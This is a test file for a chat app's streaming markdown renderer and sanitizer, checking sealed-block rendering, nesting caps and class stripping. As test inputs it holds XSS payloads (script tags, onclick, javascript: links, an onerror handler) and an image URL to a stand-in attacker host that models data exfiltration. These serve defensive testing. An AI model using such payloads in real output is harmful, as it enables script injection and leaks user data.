import { describe, expect, it } from 'vitest';
import { IncrementalMarkdown, LIST_SEAL_ITEMS } from '../../src/lib/markdown/incremental';
import { loadHeldImage, renderMarkdown } from '../../src/lib/markdown/sanitize';
import { capNesting, MAX_HTML_DEPTH } from '../../src/lib/markdown/nesting';

function html(fragment: DocumentFragment): string {
  const div = document.createElement('div');
  div.append(fragment);
  return div.innerHTML;
}

/** A one-shot render of the whole text, the reference every incremental render must end equal to. */
function fullRender(text: string): string {
  const root = document.createElement('div');
  new IncrementalMarkdown(root).finish(text);
  return root.innerHTML;
}

describe('renderMarkdown', () => {
  it('removes scripts, handlers and javascript: links', () => {
    const out = html(
      renderMarkdown(
        '<script>alert(1)</script><p onclick="x()">hi</p>\n\n[x](javascript:alert(1)) <a href="JaVaScRiPt:alert(1)">y</a>',
      ),
    );
    expect(out).not.toMatch(/<script|onclick|javascript:/i);
    expect(out).toContain('hi');
  });

  it('gives links rel=noopener noreferrer and keeps only http, https and mailto', () => {
    const div = document.createElement('div');
    div.append(
      renderMarkdown('[a](https://example.com) [b](mailto:x@y.z) [c](data:text/html,hi) [d](ftp://x)'),
    );
    const links = [...div.querySelectorAll('a')];
    expect(links.map((a) => a.getAttribute('href'))).toEqual([
      'https://example.com',
      'mailto:x@y.z',
      null,
      null,
    ]);
    expect(links.every((a) => a.rel === 'noopener noreferrer')).toBe(true);
  });

  it('holds remote images behind a Load image button instead of loading them', () => {
    const div = document.createElement('div');
    div.append(renderMarkdown('![secret](https://evil.example/collect?d=abc)'));
    expect(div.querySelector('img')).toBeNull();
    const button = div.querySelector('button');
    expect(button?.textContent).toBe('Load image');
    expect(button?.dataset.src).toBe('https://evil.example/collect?d=abc');
  });

  it('gives a loaded image the alt text the model wrote, not the placeholder label', () => {
    const root = document.createElement('div');
    root.append(renderMarkdown('![a cat](https://example.com/cat.png)'));
    root.addEventListener('click', loadHeldImage);
    root.querySelector<HTMLButtonElement>('.remote-image button')!.click();
    const img = root.querySelector('img');
    expect(img?.alt).toBe('a cat');
    expect(img?.getAttribute('src')).toBe('https://example.com/cat.png');
  });

  it('does not let an unclosed tag swallow the rest of the answer', () => {
    const div = document.createElement('div');
    div.append(renderMarkdown('<audio src=x onerror=alert(1)>\n\n<details>\n\nStill **here**.\n\nAnd here.'));
    expect(div.textContent).toContain('Still here.');
    expect(div.textContent).toContain('And here.');
    expect(div.querySelector('audio')).toBeNull();
  });

  it('keeps the language class on code blocks', () => {
    expect(html(renderMarkdown('```python\nprint(1)\n```'))).toContain('class="language-python"');
  });
});

describe('IncrementalMarkdown', () => {
  const doc =
    '# Title\n\nIntro with **bold**.\n\n- one\n- two\n\n```js\nlet a = 1;\n\nlet b = 2;\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\nEnd [link][ref].\n\n[ref]: https://example.com\n';

  it('seals finished blocks and never re-renders them', () => {
    const root = document.createElement('div');
    const view = new IncrementalMarkdown(root);
    view.update('# Title\n\nIntro');
    const sealed = root.querySelector('.md-sealed h1');
    expect(sealed?.textContent).toBe('Title');
    view.update('# Title\n\nIntro with more\n\nNext');
    expect(root.querySelector('.md-sealed h1')).toBe(sealed);
    expect(view.sealedBlocks).toBe(2);
  });

  it('does not seal inside an open code fence or a list that may go on', () => {
    const root = document.createElement('div');
    const view = new IncrementalMarkdown(root);
    view.update('```\ncode\n\nmore code\n\nstill');
    expect(view.sealedBlocks).toBe(0);
    expect(root.querySelector('.md-tail pre code')?.textContent).toContain('still');
    expect(root.querySelector('.md-sealed')?.children).toHaveLength(0);
    const list = new IncrementalMarkdown(document.createElement('div'));
    list.update('1. one\n\n2');
    expect(list.sealedBlocks).toBe(0);
  });

  it('ends equal to a full render, whatever the chunking', () => {
    const expected = fullRender(doc);
    for (const size of [1, 3, 7, 20]) {
      const root = document.createElement('div');
      const view = new IncrementalMarkdown(root);
      for (let i = size; i < doc.length; i += size) view.update(doc.slice(0, i));
      view.finish(doc);
      expect(root.innerHTML).toBe(expected);
    }
  });

  it('shows a cursor at the end while streaming and none after finish', () => {
    const root = document.createElement('div');
    const view = new IncrementalMarkdown(root);
    view.update('Hello **wor');
    expect(root.querySelector('.cursor')).not.toBeNull();
    expect(root.querySelector('strong')?.textContent).toContain('wor');
    view.finish('Hello **world**');
    expect(root.querySelector('.cursor')).toBeNull();
  });
});

describe('IncrementalMarkdown over generated documents', () => {
  it('ends equal to a full render and never changes a sealed block, for every chunking', async () => {
    const { generateDocument, randomChunks } = await import('../fixtures/markdown-docs');
    let sealedDocs = 0;
    for (let seed = 1; seed <= 24; seed++) {
      const doc = generateDocument(seed, 300 + seed * 15);
      const expected = fullRender(doc);
      const root = document.createElement('div');
      const view = new IncrementalMarkdown(root);
      const sealed = () => [...root.querySelector('.md-sealed')!.children];
      // Each sealed block as it was when sealed; it must be the same node, unchanged, at the end.
      const seen: { node: Element; html: string }[] = [];
      let text = '';
      for (const chunk of randomChunks(doc, seed, 4 + (seed % 16))) {
        text += chunk;
        view.update(text);
        for (const node of sealed().slice(seen.length)) seen.push({ node, html: node.outerHTML });
      }
      if (seen.length) sealedDocs++;
      expect(sealed().slice(0, seen.length)).toEqual(seen.map((s) => s.node));
      for (const s of seen) expect(s.node.outerHTML).toBe(s.html);
      view.finish(doc);
      expect(root.innerHTML, `seed ${seed}`).toBe(expected);
      // The one-shot render holds exactly the sanitized blocks of the text.
      expect(root.querySelector('.md-sealed')!.innerHTML).toBe(html(renderMarkdown(doc)));
    }
    // The property is only meaningful if sealing actually happens on most documents.
    expect(sealedDocs).toBeGreaterThan(18);
  }, 120_000);
});

describe('IncrementalMarkdown reuse', () => {
  it('finishing twice, the second time with more text, still equals a full render', () => {
    const root = document.createElement('div');
    const view = new IncrementalMarkdown(root);
    const doc =
      '# Title\n\nSome **bold** text.\n\n```python\nprint(1)\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n';
    const cut = doc.indexOf('``\n\n|');
    view.update(doc.slice(0, cut));
    view.finish(doc.slice(0, cut));
    view.finish(doc);
    expect(root.innerHTML).toBe(fullRender(doc));
    view.finish(doc);
    expect(root.innerHTML).toBe(fullRender(doc));
  });

  it('starts over cleanly when a new stream begins after finish', () => {
    const root = document.createElement('div');
    const view = new IncrementalMarkdown(root);
    view.update('First answer');
    view.finish('First answer');
    view.update('First answer, retried\n\nand longer');
    view.finish('First answer, retried\n\nand longer');
    expect(root.innerHTML).toBe(fullRender('First answer, retried\n\nand longer'));
  });
});

describe('IncrementalMarkdown watchdog', () => {
  it('shows a block as plain text once rendering its tail turns slow, until it is sealed', () => {
    const root = document.createElement('div');
    const view = new IncrementalMarkdown(root);
    const realNow = performance.now.bind(performance);
    let slow = true;
    let clock = 0;
    // Every call of the clock inside a tail render advances it by 60 ms: a pathological render.
    performance.now = () => (slow ? (clock += 60) : realNow());
    try {
      view.update('Intro **with *many* nested** marks');
    } finally {
      slow = false;
      performance.now = realNow;
    }
    view.update('Intro **with *many* nested** marks and more');
    expect(root.querySelector('.md-tail pre.md-plain')?.textContent).toBe(
      'Intro **with *many* nested** marks and more▌',
    );
    expect(root.querySelector('.md-tail strong')).toBeNull();
    // Once the block is sealed, the next tail renders as markdown again.
    view.update('Intro **with *many* nested** marks and more\n\nNext **bold**');
    expect(root.querySelector('.md-sealed p')?.textContent).toContain('Intro');
    expect(root.querySelector('.md-tail strong')?.textContent).toBe('bold▌');
  });
});

describe('IncrementalMarkdown prediction', () => {
  it('weighs the layout of a long tail, not only its render, and shows it as text once that is too slow', () => {
    const root = document.createElement('div');
    const view = new IncrementalMarkdown(root);
    const realNow = performance.now.bind(performance);
    const height = Object.getOwnPropertyDescriptor(HTMLElement.prototype, 'offsetHeight')!;
    let clock = 0;
    // On this clock rendering costs nothing, and laying out costs 1 ms per 2,000 characters of
    // the element read (the browser lays out a paragraph whole, whatever changed in it).
    performance.now = () => clock;
    Object.defineProperty(HTMLElement.prototype, 'offsetHeight', {
      configurable: true,
      get(this: HTMLElement) {
        clock += (this.textContent ?? '').length / 2000;
        return 0;
      },
    });
    const paragraph = (chars: number) => 'w '.repeat(chars / 2);
    try {
      // 10,000 characters: 5 ms, predicted 10 ms at 20,000 (the budget is 8).
      view.update(paragraph(10_000));
      expect(root.querySelector('.md-tail p')).not.toBeNull();
      // The layout it did itself is told apart from its own cost (the tail and its cursor).
      expect(view.layoutMs).toBeCloseTo(5, 1);
      view.update(paragraph(20_000));
    } finally {
      performance.now = realNow;
      Object.defineProperty(HTMLElement.prototype, 'offsetHeight', height);
    }
    expect(root.querySelector('.md-tail p')).toBeNull();
    expect(root.querySelector('.md-tail pre.md-plain')?.textContent).toBe(`${paragraph(20_000)}▌`);
    expect(view.layoutMs).toBe(0);
    // The final render is markdown, whatever the tail showed as.
    view.finish(paragraph(20_000));
    expect(root.innerHTML).toBe(fullRender(paragraph(20_000)));
  });
});

describe('IncrementalMarkdown plain tail', () => {
  /** A view whose first tail render took 60 ms: its tail shows as text until a block seals. */
  function slowView(root: HTMLElement, first: string): IncrementalMarkdown {
    const view = new IncrementalMarkdown(root);
    const realNow = performance.now.bind(performance);
    let clock = 0;
    performance.now = () => (clock += 60);
    try {
      view.update(first);
    } finally {
      performance.now = realNow;
    }
    return view;
  }

  it('seals a long paragraph shown as text in blocks, and replaces only the text after them', () => {
    const root = document.createElement('div');
    const line = (i: number) => `${' w'.repeat(19)} ${i}\n`;
    let text = line(0);
    const view = slowView(root, text);
    for (let i = 1; i < 200; i++) view.update((text += line(i)));
    const blocks = [...root.querySelectorAll('.md-tail .md-plain-block')];
    expect(blocks.length).toBeGreaterThan(2);
    expect(root.querySelectorAll('.md-tail pre.md-plain')).toHaveLength(1);
    // The blocks and the live text read as the text, cursor last.
    expect(root.querySelector('.md-tail')!.textContent).toBe(`${text}▌`);
    for (let i = 200; i < 260; i++) view.update((text += line(i)));
    const after = [...root.querySelectorAll('.md-tail .md-plain-block')];
    // The blocks already there are the same nodes: nothing sealed was rendered again.
    blocks.forEach((block, i) => expect(after[i]).toBe(block));
    expect(after.length).toBeGreaterThan(blocks.length);
    expect(root.querySelector('.md-tail')!.textContent).toBe(`${text}▌`);
    view.finish(text);
    expect(root.innerHTML).toBe(fullRender(text));
  });

  it('caps indentation as the whole tail would, with a code fence open across its blocks', () => {
    const root = document.createElement('div');
    // A fence, then more than a block of code, then a line indented 28 columns inside the fence.
    const code = Array.from({ length: 120 }, (_, i) => `    line ${i} of the code block`).join('\n');
    const text = `\`\`\`\n${code}\n${' '.repeat(28)}deep\n`;
    const view = slowView(root, text.slice(0, 10));
    view.update(text);
    expect(root.querySelectorAll('.md-tail .md-plain-block').length).toBeGreaterThan(0);
    expect(root.querySelector('.md-tail')!.textContent).toBe(`${capNesting(text)}▌`);
  });

  it('keeps the cursor at the end when the text after the last block is only a line break', () => {
    const root = document.createElement('div');
    const line = (i: number) => `${' w'.repeat(19)} ${i}\n`;
    let text = line(0);
    const view = slowView(root, text);
    while (!root.querySelector('.md-tail .md-plain-block')) view.update((text += line(text.length)));
    // The block just sealed ends where the text does: what follows it is one line break.
    expect(root.querySelector('.md-tail .md-plain-block')!.textContent).toBe(text);
    view.update((text += '\n'));
    expect(root.querySelector('.md-tail')!.textContent).toBe(`${text}▌`);
    expect(root.querySelector('.md-eol .cursor')).toBeNull();
  });

  it('starts its blocks over when a markdown block seals before them', () => {
    const root = document.createElement('div');
    const first = `${'x'.repeat(3000)}\n${'y'.repeat(10)}`;
    const view = slowView(root, first.slice(0, 3001));
    view.update(first);
    expect(root.querySelectorAll('.md-tail .md-plain-block')).toHaveLength(1);
    view.update(`${first}\n\nNext **bold**`);
    expect(root.querySelector('.md-sealed p')?.textContent).toBe(`${'x'.repeat(3000)}\n${'y'.repeat(10)}`);
    expect(root.querySelectorAll('.md-tail .md-plain-block')).toHaveLength(0);
    expect(root.querySelector('.md-tail strong')?.textContent).toBe('bold▌');
  });
});

describe('output cannot hide text or dress up as the app', () => {
  /** Every class name the app's own markup and stylesheet use. */
  async function appClasses(): Promise<string[]> {
    const { readFile, readdir } = await import('node:fs/promises');
    const files = (await readdir('src', { recursive: true }))
      .filter((f) => f.endsWith('.svelte'))
      .map((f) => `src/${f}`);
    const names = new Set<string>();
    for (const file of [...files, 'src/app.css']) {
      const source = await readFile(file, 'utf8');
      for (const m of source.matchAll(/class(?::([\w-]+)|="([^"]*)")/g)) {
        if (m[1]) names.add(m[1]);
        for (const n of (m[2] ?? '').replace(/\{[^}]*\}/g, ' ').split(/\s+/))
          if (/^[\w-]+$/.test(n)) names.add(n);
      }
      for (const m of source.matchAll(/\.([a-zA-Z][\w-]*)/g)) if (file.endsWith('.css')) names.add(m[1]!);
    }
    for (const n of ['sr-only', 'visually-hidden', 'hidden', 'alert', 'error', 'hljs']) names.add(n);
    return [...names];
  }

  it('keeps no class from model output but one language-* token on <code>', async () => {
    const classes = await appClasses();
    expect(classes.length).toBeGreaterThan(20);
    const variants = [
      (c: string) => `<div class="${c}">x</div>`,
      (c: string) => `<span class="${c}">x</span>`,
      (c: string) => `<a class="${c}" href="https://example.com">x</a>`,
      (c: string) => `<code class="${c}">x</code>`,
      (c: string) => `<code class="hljs ${c}">x</code>`,
      (c: string) => `<code class="language-js ${c}">x</code>`,
      (c: string) => `<span class="hljs-keyword ${c}">x</span>`,
    ];
    for (const variant of variants) {
      const inline = classes.map(variant).join(' ');
      const root = document.createElement('div');
      root.append(renderMarkdown(`Intro ${inline} after\n\n${inline}\n\n- ${inline}`));
      const streamed = document.createElement('div');
      new IncrementalMarkdown(streamed).update(`Intro ${inline}`);
      const classed = [...root.querySelectorAll('[class]'), ...streamed.querySelectorAll('.md-tail [class]')];
      expect(root.textContent).toContain('x');
      for (const el of classed) {
        if (el.classList.contains('cursor')) continue;
        expect(el.tagName, variant('…')).toBe('CODE');
        expect(el.getAttribute('class'), variant('…')).toMatch(/^language-[\w+#-]+$/);
      }
    }
  }, 30_000);

  it('leaves no way to hide an element: no style, hidden, aria or id attributes', () => {
    const root = document.createElement('div');
    root.append(
      renderMarkdown(
        '<div style="display:none" hidden aria-hidden="true" id="app" class="sr-only">secret</div>\n\n<details><summary>x</summary>y</details>\n\n<span hidden="until-found" inert>z</span>',
      ),
    );
    for (const el of root.querySelectorAll('*'))
      for (const a of el.getAttributeNames())
        expect(['style', 'hidden', 'aria-hidden', 'id', 'class', 'inert', 'open']).not.toContain(a);
    expect(root.textContent).toContain('secret');
  });

  it('still keeps a code block language and its own image placeholders', () => {
    const root = document.createElement('div');
    root.append(renderMarkdown('```python\nx\n```\n\n![cat](https://example.com/cat.png)'));
    expect(root.querySelector('code')?.className).toBe('language-python');
    expect(root.querySelector('.remote-image button')?.textContent).toBe('Load image');
  });
});

describe('GFM attributes that are not URIs', () => {
  it('keeps task-list checkboxes, an ordered list start and table alignment', () => {
    const root = document.createElement('div');
    root.append(
      renderMarkdown(
        '- [x] done\n- [ ] todo\n\n3. three\n4. four\n\n| a | b | c |\n|:--|:-:|--:|\n| 1 | 2 | 3 |',
      ),
    );
    const boxes = [...root.querySelectorAll('input')];
    expect(boxes.map((b) => [b.type, b.checked, b.disabled])).toEqual([
      ['checkbox', true, true],
      ['checkbox', false, true],
    ]);
    expect(root.querySelector('ol')?.getAttribute('start')).toBe('3');
    expect([...root.querySelectorAll('th')].map((th) => th.getAttribute('align'))).toEqual([
      'left',
      'center',
      'right',
    ]);
  });
});

describe('deep nesting', () => {
  const hostile = {
    quotes: '>'.repeat(2048) + ' deep',
    dashes: '- '.repeat(1200) + 'deep',
    'indented list': Array.from({ length: 400 }, (_, i) => `${' '.repeat(2 * i)}- deep ${i}`).join('\n'),
  };

  it.each(Object.entries(hostile))('renders the text around %s, in one shot and streamed', (_name, block) => {
    const doc = `Before **it**.\n\n${block}\n\nAfter *it*.\n`;
    const once = document.createElement('div');
    new IncrementalMarkdown(once).finish(doc);
    expect(once.querySelector('strong')?.textContent).toBe('it');
    expect(once.querySelector('em')?.textContent).toBe('it');
    expect(once.textContent).toContain('deep');
    const streamed = document.createElement('div');
    const view = new IncrementalMarkdown(streamed);
    for (const cut of [doc.indexOf(block) + 5, doc.indexOf(block) + 100, doc.indexOf('After') + 3]) {
      view.update(doc.slice(0, cut));
      expect(streamed.textContent).toContain('Before it.');
    }
    expect(streamed.textContent).toContain('Aft');
    view.finish(doc);
    expect(streamed.innerHTML).toBe(once.innerHTML);
  });

  it('keeps raw HTML at most MAX_HTML_DEPTH elements deep; deeper start tags show as text', () => {
    const doc = `Before.\n\n${'<div>'.repeat(4096)}deep divs${'</div>'.repeat(4096)}\n\nAfter.\n`;
    const out = document.createElement('div');
    new IncrementalMarkdown(out).finish(doc);
    let depth = 0;
    for (let el = out.querySelector('.md-sealed > div'); el; el = el.querySelector(':scope > div')) depth++;
    expect(depth).toBeLessThanOrEqual(MAX_HTML_DEPTH);
    expect(depth).toBeGreaterThan(MAX_HTML_DEPTH / 2);
    expect(out.textContent).toContain('<div><div>deep divs');
    expect(out.textContent).toContain('After.');
  });

  it('leaves ordinary HTML, code spans and fenced code exactly as written', () => {
    const ordinary = `<details><summary>More</summary>\n\n${'<b>'.repeat(3)}x${'</b>'.repeat(3)}\n\n</details>`;
    expect(capNesting(ordinary)).toBe(ordinary);
    const deep = '<i>'.repeat(MAX_HTML_DEPTH + 5);
    const code = `\`${deep}\` and\n\n\`\`\`html\n${deep}\n\`\`\`\n`;
    expect(capNesting(code)).toBe(code);
    expect(capNesting(deep)).toBe('<i>'.repeat(MAX_HTML_DEPTH) + '&lt;i>'.repeat(5));
  });
});

describe('reference definitions finish like a one-shot render', () => {
  it.each([
    ['in a blockquote', 'See [the docs][d].\n\nMore text.\n\n> [d]: https://example.com/docs\n'],
    ['in a list', 'See [the docs][d].\n\nMore text.\n\n- item\n\n  [d]: https://example.com/docs\n'],
    ['with a multi-line label', 'See [the\ndocs].\n\nMore text.\n\n[the\ndocs]: https://example.com/docs\n'],
  ])('%s', (_name, doc) => {
    const root = document.createElement('div');
    const view = new IncrementalMarkdown(root);
    for (let i = 1; i < doc.length; i++) view.update(doc.slice(0, i));
    view.finish(doc);
    expect(root.innerHTML).toBe(fullRender(doc));
    expect(root.querySelector('a')?.getAttribute('href')).toBe('https://example.com/docs');
  });
});

describe('long lists', () => {
  it('seal all but their last item while streaming, and finish like a one-shot render', () => {
    for (const marker of ['-', '  -', '1.']) {
      const doc =
        Array.from({ length: 200 }, (_, i) => `${marker === '1.' ? `${i + 1}.` : marker} item ${i}`).join(
          '\n',
        ) + '\n';
      const root = document.createElement('div');
      const view = new IncrementalMarkdown(root);
      let longestTail = 0;
      for (let i = 1; i <= doc.length; i += 19) {
        view.update(doc.slice(0, i));
        longestTail = Math.max(longestTail, root.querySelectorAll('.md-tail li').length);
      }
      expect(view.sealedBlocks, marker).toBeGreaterThanOrEqual(2);
      expect(longestTail, marker).toBeLessThanOrEqual(LIST_SEAL_ITEMS + 1);
      view.finish(doc);
      expect(root.innerHTML, marker).toBe(fullRender(doc));
    }
  }, 30_000);
});
